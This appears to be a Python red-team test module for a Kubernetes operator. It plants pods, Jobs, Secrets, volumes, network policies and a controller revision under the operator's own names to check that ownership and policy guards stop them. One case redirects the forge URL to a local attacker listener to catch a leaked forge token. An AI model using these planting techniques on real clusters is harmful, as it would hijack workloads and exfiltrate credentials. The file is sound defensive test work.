"""What somebody who may write into the namespace plants, under names and labels of the operator's own."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from boardhand_api.order import Order
from boardhand_api.pod import LABEL_RUN, Stage
from boardhand_api.result import Published, Result, termination_message
from boardhand_operator.cluster.snapshots import revision_name
from boardhand_operator.names import job_name, sealed_secret_name
from boardhand_operator.sealed.keyring import Key, Keyring, Place
from boardhand_operator.views import Pool
from testbed.load import Fate, green, objects
from testbed.redteam.attack import Attack, Outcome
from testbed.redteam.lures import listening
from testbed.redteam.operator_ground import KEYS, Json
from testbed.redteam.operator_scene import SECONDS, Scene, scene
from testbed.shell import wait_for

RUN = "planted"
BRANCH = "boardhand/evil"
OWNERS = "an object counts as a run's only by its owner's UID"
CANARY = "canary-of-the-model-key-9ab3"
SPACED = {"apiVersion": "v1", "kind": "Pod"}


def attacks() -> list[Attack]:
    """Every attack of this theme."""
    return [
        _attack("pod-with-a-runs-labels", "a verdict of the attacker's own pod", _pod, "owners", OWNERS),
        _attack("job-of-a-runs-name", "a run that follows the attacker's Job", _job, "owners", OWNERS),
        _attack(
            "secret-of-a-runs-name", "unsealed credentials in a Secret of the attacker's", _secret, "owners", OWNERS
        ),
        _attack("volume-of-a-runs-name", "a run that works on the attacker's volume", _volume, "owners", OWNERS),
        _attack("network-policy-of-a-pools-name", "pods that reach everything", _policy, "policies", OWNERS),
        _attack(
            "revision-of-a-pools-name",
            "the forge's token at the attacker's server",
            _revision,
            "snapshots",
            "a revision must say what the pool does",
        ),
    ]


def _attack(name: str, wants: str, tried: Callable[[Scene], Outcome], off: str, guard: str) -> Attack:
    def with_operator(without: str) -> Outcome:
        with scene(without) as here:
            return tried(here)

    return Attack(f"planted-{name}", wants, lambda: with_operator(""), lambda: with_operator(off), guard)


def only_checkout(order: Order) -> Fate:
    """A pod that stays with its agent."""
    return Fate({Stage.CHECKOUT: green(order).ends[Stage.CHECKOUT]})


def said_well() -> Json:
    """The status of a pod whose containers all said that they succeeded."""
    words = {
        "agent": termination_message(Result(commit="e" * 40, base_commit="b" * 40, title="Evil")),
        "publish": termination_message(Published(branch=BRANCH, commit="e" * 40)),
        "verify": "command 1 exit 0 seconds 1\nsummary 99 passed in 0.01s\n",
    }
    rows = [
        {
            **{"name": name, "image": "evil:1", "imageID": "", "ready": False, "restartCount": 0},
            "state": {"terminated": {"exitCode": 0, "message": text, "reason": "Completed"}},
        }
        for name, text in words.items()
    ]
    return {"phase": "Succeeded", "initContainerStatuses": rows[:2], "containerStatuses": rows[2:]}


def _pod_body(here: Scene, job: str) -> Json:
    labels = {LABEL_RUN: RUN, "batch.kubernetes.io/job-name": job, "job-name": job}
    containers = [{"name": name, "image": "evil:1"} for name in ("agent", "publish", "verify")]
    spec = {"initContainers": containers[:2], "containers": containers[2:], "restartPolicy": "Never"}
    run = here.get("ticketruns", RUN)
    # Its event has the run looked at.
    owner = {"apiVersion": run["apiVersion"], "kind": "TicketRun", "name": RUN, "uid": run["metadata"]["uid"]}
    about = {"name": "evil", "namespace": here.space, "labels": labels, "ownerReferences": [owner]}
    return {**SPACED, "metadata": about, "spec": spec}


def _pod(here: Scene) -> Outcome:
    here.ground.fates["Stays"] = only_checkout
    here.apply(here.pool())
    here.run(RUN, title="Stays")
    here.phase(RUN, "Working")
    here.api.create(here.path("pods"), _pod_body(here, job_name(RUN, 1)))
    here.write_status("pods", "evil", said_well())
    reached = here.comes(lambda: here.status(RUN).get("branch") == BRANCH)
    status = here.status(RUN)
    return Outcome(reached, f"the run is {status['phase']}, by Job {status['job']} and the pod that this owns")


def _job(here: Scene) -> Outcome:
    here.apply(here.pool(suspend=True), "False")
    here.run(RUN)
    pod = _pod_body(here, job_name(RUN, 1))
    template = {"metadata": {"labels": {LABEL_RUN: RUN}}, "spec": pod["spec"]}
    body = {
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": {"name": job_name(RUN, 1), "namespace": here.space},
        "spec": {"template": template, "suspend": True},
    }
    here.api.create(here.path("jobs"), body)
    here.apply(here.pool())
    reached = here.comes(lambda: here.status(RUN).get("job") == job_name(RUN, 1))
    if reached:
        return Outcome(True, "")
    here.phase(RUN, "Succeeded")
    said = [text for text in here.events(RUN) if "does not own" in text]
    return Outcome(False, "; ".join(said))


def _secret(here: Scene) -> Outcome:
    key = Key.generate()
    Path(here.ground.cluster.layout.state / KEYS).write_text(f"{key.text}\n")
    ring = Keyring([key])
    pool = here.pool(suspend=True)
    large = pool["spec"]["models"]["large"]
    del large["secretRef"]
    large["sealed"] = {"apiKey": ring.seal(Place(here.space, "pool", "models.large.apiKey"), CANARY)}
    here.apply(pool, "False")
    here.run(RUN)
    name = sealed_secret_name(RUN)
    meta = {"name": name, "namespace": here.space}
    here.api.create(here.path("secrets"), {"apiVersion": "v1", "kind": "Secret", "metadata": meta})
    pool["spec"]["suspend"] = False
    here.apply(pool)

    def got() -> bool:
        data = (here.get("secrets", name).get("data") or {}).values()
        return any(CANARY in base64.b64decode(value).decode() for value in data)

    reached = here.comes(got, 8)
    log = here.ground.log
    sentence = next((line for line in log.splitlines() if f"a Secret {name} is there" in line), "")
    return Outcome(reached, sentence.partition(": ")[2])


def _volume(here: Scene) -> Outcome:
    here.apply(here.pool(suspend=True, persistence={"size": "1Gi"}), "False")
    here.run(RUN)
    spec = {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}
    meta = {"name": RUN, "namespace": here.space}
    claim = {"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": meta, "spec": spec}
    here.api.create(here.path("persistentvolumeclaims"), claim)
    here.apply(here.pool(persistence={"size": "1Gi"}))
    reached = here.comes(lambda: bool(here.get("jobs", job_name(RUN, 1))))
    return Outcome(reached, here.condition("ticketruns", RUN, "Reconciling")["message"])


def _policy(here: Scene) -> Outcome:
    about = {"name": "boardhand-pool", "namespace": here.space}
    body = {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": about}
    spec = {"podSelector": {}, "egress": [{}], "ingress": [{}], "policyTypes": ["Egress", "Ingress"]}
    here.api.create(here.path("networkpolicies"), {**body, "spec": spec})
    here.ground.cluster.apply(here.pool(egress={"mode": "Restricted", "to": [{"cidr": "203.0.113.7/32"}]}))
    here.run(RUN)
    reached = here.comes(lambda: bool(here.get("jobs", job_name(RUN, 1))), 8)
    said = here.condition("codingagents", "pool", "Ready")
    return Outcome(reached, f"{said['reason']}: {said['message']}")


def _revision(here: Scene) -> Outcome:
    """The pool changes and the operator begins anew in the middle of the run: then the revision is read."""
    here.ground.fates["Held"] = only_checkout
    with listening() as attacker:
        body = here.apply(here.pool(suspend=True), "False")
        # The pool's generation once it is set free.
        pool = Pool.of({**body, "metadata": {**body["metadata"], "generation": body["metadata"]["generation"] + 1}})
        spec = json.loads(json.dumps(body["spec"])) | {"suspend": False}
        spec["forge"] |= {"url": attacker.url}
        spec["repository"]["url"] = f"{attacker.url}/load/evil.git"
        about: dict[str, Any] = {"name": revision_name(pool, pool.generation), "namespace": here.space}
        about["ownerReferences"] = [
            {"apiVersion": body["apiVersion"], "kind": body["kind"], "name": pool.name, "uid": pool.uid}
        ]
        planted = {"apiVersion": "apps/v1", "kind": "ControllerRevision", "metadata": about, "revision": 1}
        here.api.create(here.path("controllerrevisions"), {**planted, "data": {"spec": spec}})
        here.run(RUN, title="Held")
        here.apply(here.pool())
        if here.comes(lambda: here.status(RUN).get("phase") == "Working", 8):
            here.apply(here.pool(limits={"concurrency": 7, "retrySeconds": 1}))
            pods = [pod for pod in here.all("pods") if pod["metadata"]["labels"].get(LABEL_RUN) == RUN]
            here.ground.operate(here.ground._off, anew=True)
            here.write_status("pods", pods[0]["metadata"]["name"], said_well())
            token = base64.b64encode(objects.FORGE_TOKEN.encode()).decode()
            reached = here.comes(lambda: attacker.has(objects.FORGE_TOKEN) or attacker.has(token), SECONDS)
            return Outcome(reached, f"the run is {here.status(RUN).get('phase')}")
        wait_for("a word of it", lambda: "is not of this pool's spec" in here.ground.log, SECONDS)
        line = next(line for line in here.ground.log.splitlines() if "is not of this pool's spec" in line)
        return Outcome(attacker.has(objects.FORGE_TOKEN), line.partition(": ")[2])
